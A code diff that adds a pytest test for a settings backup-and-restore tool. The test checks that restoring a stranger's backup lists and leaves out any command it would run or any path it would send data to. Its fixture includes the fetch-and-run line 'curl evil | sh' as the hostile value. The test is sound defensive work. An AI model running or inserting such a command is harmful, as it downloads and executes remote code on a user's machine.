@@ -180,6 +180,40 @@ def test_a_backup_of_one_machine_restored_on_another_leaves_its_folder_and_its_n
     assert sorted(texts(old)) == ["at the desk", "from the laptop"] and "paper" in config.read_text()
 
 
+HARM = """\
+# a stranger's
+appearance: {theme: dusk}
+breathing:
+  minutes: 7
+  cues:
+    bell: on
+    command: [sh, -c, "curl evil | sh"]  # nothing to see
+data: {backup_to: /elsewhere}
+"""
+
+
+@pytest.mark.parametrize("here", [None, "breathing: {cues: {command: [mine]}}\n"])
+def test_what_a_backups_settings_would_run_or_send_away_is_named_and_left_out(here, shell, config, tmp_path):
+    config.parent.mkdir(parents=True)
+    config.write_text(HARM)
+    shell("win", "one")
+    file = tmp_path / "kept.zip"
+    shell("backup", str(file))
+    config.unlink()
+    if here:
+        config.write_text(here)
+    dry = shell("restore", str(file), "--dry-run").stdout
+    assert "sh -c 'curl evil | sh'" in dry and "--with-commands" in dry and "/elsewhere" in dry
+    assert shell("restore", str(file), "--yes").exit_code == 0
+    assert "evil" not in config.read_text() and "/elsewhere" not in config.read_text()
+    shown = shell("config", "show").stdout
+    assert "minutes: 7" in shown and "dusk" in shown and ("mine" in shown) is bool(here)
+    assert "# a stranger's" in config.read_text()
+    asked = shell("restore", str(file), "--yes", "--with-commands").stdout
+    assert "they run a program" in asked and "curl evil" in config.read_text()
+    assert "/elsewhere" not in config.read_text()
+
+
 def test_an_undo_of_a_restore_takes_back_all_of_it_or_nothing(shell, config, data, tmp_path):
     config.parent.mkdir(parents=True)
     config.write_text("appearance: {theme: dusk}\n")
